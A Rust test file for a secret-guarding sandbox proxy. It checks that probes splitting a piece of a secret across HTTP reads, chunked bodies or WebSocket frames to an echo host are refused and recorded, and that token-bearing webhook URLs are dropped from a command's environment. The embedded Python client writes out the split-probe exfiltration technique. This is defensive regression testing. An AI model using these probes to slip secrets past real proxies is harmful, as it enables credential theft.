//! Attack report atk27q F7: the probe lock-out (ADR 0314) on plain HTTP.
//! A piece of a granted secret's real value split between the bytes the
//! proxy read with the request head and the next read, or across the
//! chunks of a chunked body, went up whole to an allowed plain-HTTP echo
//! host, whose (scrubbed) answer told whether the guess was right.
//! Checked from outside: what the echo host received, and whether the
//! secret was recorded as exposed; as root and as uid 65534. The
//! usability side: ordinary plain-HTTP bodies (counted and chunked) still
//! go up and come back.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::common::*;
use crate::support_secret_server::{self as server, Setup};
use crate::support_secret_sources::{as_user, exposed, find, is_root};
use skarn_test_support::TempDir;

/// The secret's value: random-looking throughout.
const VALUE: &str = "Qx7Lm2Zp9Tv4Wn8Rc3Yb6Hs1Kd5Jf0Ga";
/// A 12-byte piece of it: what an oracle sends.
const PIECE: &str = "Lm2Zp9Tv4Wn8";

/// A plain-HTTP echo host on loopback: every byte received after a head
/// is kept (complete or not); a complete body is sent back.
type Seen = Arc<Mutex<Vec<u8>>>;

struct Echo {
    port: u16,
    conns: Arc<Mutex<Vec<Seen>>>,
}

/// The de-chunked body if `b` holds a whole chunked body.
fn dechunk(mut b: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    loop {
        let i = find(b, b"\r\n")?;
        let n = usize::from_str_radix(std::str::from_utf8(&b[..i]).ok()?.trim(), 16).ok()?;
        b = &b[i + 2..];
        if n == 0 {
            return Some(out);
        }
        if b.len() < n + 2 {
            return None;
        }
        out.extend_from_slice(&b[..n]);
        b = &b[n + 2..];
    }
}

fn serve(mut c: TcpStream, seen: Seen) {
    let _ = c.set_read_timeout(Some(Duration::from_secs(20)));
    let mut buf = Vec::new();
    let mut tmp = [0u8; 4096];
    let mut body_at = None;
    loop {
        let n = match c.read(&mut tmp) {
            Ok(0) | Err(_) => return,
            Ok(n) => n,
        };
        buf.extend_from_slice(&tmp[..n]);
        if body_at.is_none() {
            body_at = find(&buf, b"\r\n\r\n").map(|i| i + 4);
        }
        let Some(at) = body_at else { continue };
        {
            let mut s = seen.lock().unwrap();
            s.clear();
            s.extend_from_slice(&buf[at..]);
        }
        let head = String::from_utf8_lossy(&buf[..at]).to_ascii_lowercase();
        if head.contains("upgrade: websocket") {
            let rest = buf[at..].to_vec();
            return websocket(c, rest, seen);
        }
        let body = if head.contains("transfer-encoding: chunked") {
            dechunk(&buf[at..])
        } else {
            let len = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse::<usize>().ok())
                .unwrap_or(0);
            (buf.len() - at >= len).then(|| buf[at..at + len].to_vec())
        };
        if let Some(b) = body {
            seen.lock().unwrap().extend_from_slice(b"\n--\n");
            let _ = c.write_all(
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    b.len()
                )
                .as_bytes(),
            );
            let _ = c.write_all(&b);
            return;
        }
    }
}

/// The echo over WebSocket: the client's frames unmasked and kept, the
/// first whole message sent back.
fn websocket(mut c: TcpStream, mut buf: Vec<u8>, seen: Seen) {
    let _ = c.write_all(
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
          Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n",
    );
    seen.lock().unwrap().clear();
    let mut message = Vec::new();
    let mut tmp = [0u8; 4096];
    loop {
        // A whole frame (short payloads only: the client's are).
        if buf.len() >= 6 {
            let len = usize::from(buf[1] & 0x7f);
            if buf.len() >= 6 + len {
                let m = [buf[2], buf[3], buf[4], buf[5]];
                let p: Vec<u8> = buf[6..6 + len]
                    .iter()
                    .enumerate()
                    .map(|(i, b)| b ^ m[i % 4])
                    .collect();
                seen.lock().unwrap().extend_from_slice(&p);
                message.extend_from_slice(&p);
                let fin = buf[0] & 0x80 != 0;
                buf.drain(..6 + len);
                if fin {
                    let mut f = vec![0x81, message.len() as u8];
                    f.extend_from_slice(&message);
                    let _ = c.write_all(&f);
                    return;
                }
                continue;
            }
        }
        match c.read(&mut tmp) {
            Ok(0) | Err(_) => return,
            Ok(n) => buf.extend_from_slice(&tmp[..n]),
        }
    }
}

impl Echo {
    fn start() -> Echo {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let conns = Arc::new(Mutex::new(Vec::new()));
        let keep = conns.clone();
        std::thread::spawn(move || {
            for c in l.incoming().flatten() {
                let one = Arc::new(Mutex::new(Vec::new()));
                keep.lock().unwrap().push(one.clone());
                std::thread::spawn(move || serve(c, one));
            }
        });
        Echo { port, conns }
    }

    /// What every connection received after its head.
    fn seen(&self) -> String {
        let conns = self.conns.lock().unwrap();
        let mut s = Vec::new();
        for one in conns.iter() {
            s.extend_from_slice(&one.lock().unwrap());
            s.push(b'\n');
        }
        String::from_utf8_lossy(&s).into_owned()
    }
}

/// The sandboxed client: speaks to the run's proxy in absolute form;
/// `split` sends the head with the first part of the body, waits, then
/// sends the rest; `chunked` sends the body in two chunks; `ws` upgrades
/// to WebSocket and sends a message in two masked frames.
const CLIENT: &str = r#"
import os, socket, sys, time, urllib.parse
p = urllib.parse.urlparse(os.environ.get('http_proxy') or os.environ['HTTP_PROXY'])
port, mode, a, b = sys.argv[1], sys.argv[2], sys.argv[3].encode(), sys.argv[4].encode()
s = socket.create_connection((p.hostname, p.port))
head = f'POST http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n'
def frame(fin, op, p):
    m = os.urandom(4)
    return bytes([(0x80 if fin else 0) | op, 0x80 | len(p)]) + m + bytes(c ^ m[i % 4] for i, c in enumerate(p))
if mode == 'ws':
    s.sendall((head + 'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n').encode().replace(b'POST', b'GET', 1))
    r = b''
    while b'\r\n\r\n' not in r and (d := s.recv(65536)):
        r += d
    s.sendall(frame(False, 1, a))
    time.sleep(1)
    s.sendall(frame(True, 0, b))
    r = b''
    try:
        while (d := s.recv(65536)):
            r += d
    except OSError:
        pass
    text = b''
    while len(r) >= 2:
        n = r[1] & 0x7f
        text += r[2:2 + n]
        r = r[2 + n:]
    print('answer:', text.decode(errors='replace'))
    sys.exit(0)
if mode == 'split':
    s.sendall((head + f'Content-Length: {len(a) + len(b)}\r\n\r\n').encode() + a)
    time.sleep(1)
    s.sendall(b)
else:
    s.sendall((head + 'Transfer-Encoding: chunked\r\n\r\n').encode())
    s.sendall(b'%x\r\n' % len(a) + a + b'\r\n')
    time.sleep(1)
    s.sendall(b'%x\r\n' % len(b) + b + b'\r\n0\r\n\r\n')
r = b''
try:
    while (d := s.recv(65536)):
        r += d
except OSError:
    pass
print('answer:', r.split(b'\r\n\r\n', 1)[-1].decode(errors='replace'))
"#;

fn setup(name: &str) -> Setup {
    let s = server::setup(name, "s", VALUE, "example.test", "TOK", "");
    std::fs::write(s.ws.join("client.py"), CLIENT).unwrap();
    s
}

fn send(s: &Setup, user: bool, port: u16, mode: &str, a: &str, b: &str) -> String {
    let p = port.to_string();
    let o = server::run(
        s,
        user,
        port,
        true,
        &["python3", "client.py", &p, mode, a, b],
    );
    format!("{}{}", out(&o), err(&o))
}

fn split_probe(user: bool, mode: &str) {
    if !host_has("python3", "--version") {
        skarn_test_support::skip!("python3 is not installed");
    }
    let echo = Echo::start();
    let s = setup(&format!("fx27b-{mode}-{}", u8::from(user)));
    // Usability: an ordinary body goes up and comes back.
    let o = send(&s, user, echo.port, mode, "hello ", "plain world");
    assert!(o.contains("answer: hello plain world"), "{o}");
    // The probe, split after its sixth byte.
    let o = send(
        &s,
        user,
        echo.port,
        mode,
        &format!("x {}", &PIECE[..6]),
        &PIECE[6..],
    );
    let seen = echo.seen();
    assert!(
        !seen.contains(&PIECE[6..]) && !o.contains(PIECE),
        "the split probe reached the echo host: {seen}\n{o}"
    );
    assert_eq!(exposed(&s.home, "s"), 1, "the probe was not recorded: {o}");
}

#[test]
fn f7_a_probe_split_after_the_head_read_is_refused() {
    split_probe(false, "split");
}

#[test]
fn f7_split_as_an_unprivileged_user() {
    if !is_root() {
        skarn_test_support::skip!("needs root to become uid 65534");
    }
    split_probe(true, "split");
}

#[test]
fn f7_a_probe_split_across_websocket_frames_is_refused() {
    split_probe(false, "ws");
}

#[test]
fn f7_websocket_as_an_unprivileged_user() {
    if !is_root() {
        skarn_test_support::skip!("needs root to become uid 65534");
    }
    split_probe(true, "ws");
}

#[test]
fn f7_a_probe_split_across_chunks_is_refused() {
    split_probe(false, "chunked");
}

#[test]
fn f7_chunks_as_an_unprivileged_user() {
    if !is_root() {
        skarn_test_support::skip!("needs root to become uid 65534");
    }
    split_probe(true, "chunked");
}

/// atk27q F4: a webhook URL wrapped or followed by punctuation, written
/// without its scheme, or an OAuth redirect with the token in its
/// fragment, is dropped from the command's environment like the bare
/// URL; ordinary URLs and paths beside them are kept.
fn wrapped_urls(user: bool) {
    let t = TempDir::new(if user { "fx27b-f4-u" } else { "fx27b-f4" });
    let root = t.path().to_path_buf();
    let home = t.dir("home");
    let ws = t.dir("ws");
    let token = "Zq8Lm3Xp0Tv5Wn9Rc4Yb7Hs2";
    let u = format!("https://hooks.example.test/services/T0AB12CD3/B0EF45GH6/{token}");
    let bare = u.trim_start_matches("https://").to_string();
    let dropped = [
        format!("<{u}>"),
        format!("({u})"),
        format!("{u};v=1"),
        format!("{u}|https://x.example.test"),
        format!("{u}.json"),
        format!("{{url:{u}}}"),
        bare,
        format!("https://app.example.test/callback#access_token={token}&token_type=bearer"),
    ];
    let kept = [
        "<https://docs.example.test/guide/install.html>",
        "https://docs.example.test/guide#installing-the-tool",
        "dist/index.html",
    ];
    let mut c = run_command(
        &ws,
        &home,
        &[],
        &["sh", "-c", "env | grep '^FX27B_'; echo done"],
    );
    for (i, v) in dropped.iter().enumerate() {
        c.env(format!("FX27B_D{i}"), v);
    }
    for (i, v) in kept.iter().enumerate() {
        c.env(format!("FX27B_K{i}"), v);
    }
    let mut c = if user { as_user(c, &root) } else { c };
    let o = c.output().unwrap();
    let text = out(&o);
    assert!(text.contains("done"), "{text}{}", err(&o));
    assert!(
        !text.contains(token),
        "a wrapped credential URL reached the command: {text}"
    );
    for k in kept {
        assert!(
            text.contains(k),
            "an ordinary value was dropped: {k}\n{text}"
        );
    }
}

#[test]
fn f4_wrapped_credential_urls_do_not_reach_the_command() {
    wrapped_urls(false);
}

#[test]
fn f4_as_an_unprivileged_user() {
    if !is_root() {
        skarn_test_support::skip!("needs root to become uid 65534");
    }
    wrapped_urls(true);
}
